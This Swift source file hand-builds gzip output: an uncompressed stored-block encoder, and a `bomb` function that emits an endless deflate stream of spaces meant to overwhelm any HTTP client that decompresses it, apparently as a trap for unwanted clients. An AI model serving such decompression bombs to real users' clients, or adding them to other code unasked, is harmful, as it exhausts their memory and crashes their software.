/// `Content-Encoding: gzip` (RFC 1952) without a library: the data is stored uncompressed.
enum Gzip {
    /// One member of stored blocks (RFC 1951, 3.2.4).
    static func stored(_ bytes: [UInt8]) -> [UInt8] {
        var packed = header
        packed.reserveCapacity(bytes.count + 5 * (bytes.count / 0xFFFF + 1) + 18)
        var rest = bytes[...]
        repeat {
            let block = rest.prefix(0xFFFF)
            rest = rest.dropFirst(block.count)
            packed.append(rest.isEmpty ? 1 : 0)
            packed += littleEndian(UInt32(block.count) | ~UInt32(block.count) << 16)
            packed += block
        } while !rest.isEmpty
        return packed + littleEndian(checksum(bytes))
            + littleEndian(UInt32(truncatingIfNeeded: bytes.count))
    }

    /// At least `count` spaces in a 159th of the size. Has no end: no client should get that far.
    static func bomb(of count: Int) -> [UInt8] {
        // A final block of fixed codes: the literal for a space, then copies of 258 bytes from
        // distance one (RFC 1951, 3.2.6). Eight copies take 13 bytes, which repeat.
        let copy: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]
        let begin: [UInt8] = [1, 1, 0] + [0, 1, 0, 1, 0, 0, 0, 0]
        let bits = begin + Array(repeating: copy, count: 10).flatMap(\.self)
        let bytes = stride(from: 0, to: 15 * 8, by: 8).map { start in
            bits[start..<start + 8].reversed().reduce(0) { $0 << 1 | $1 }
        }
        let cycle = bytes[2..<15]
        let times = count / (8 * 258) + 1
        var packed = header + bytes[..<2]
        packed.reserveCapacity(packed.count + times * cycle.count)
        for _ in 0..<times { packed += cycle }
        return packed
    }

    /// Deflate, no flags, no time, unknown system.
    private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

    private static func littleEndian(_ number: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: number >> ($0 * 8)) }
    }

    private static func checksum(_ bytes: [UInt8]) -> UInt32 {
        table.withUnsafeBufferPointer { table in
            bytes.withUnsafeBufferPointer { bytes in
                ~bytes.reduce(~0) { $0 >> 8 ^ table[Int(UInt8(truncatingIfNeeded: $0) ^ $1)] }
            }
        }
    }

    private static let table: [UInt32] = (0..<256).map { number in
        (0..<8).reduce(number) { rest, _ in rest >> 1 ^ (rest & 1 == 1 ? 0xEDB8_8320 : 0) }
    }
}
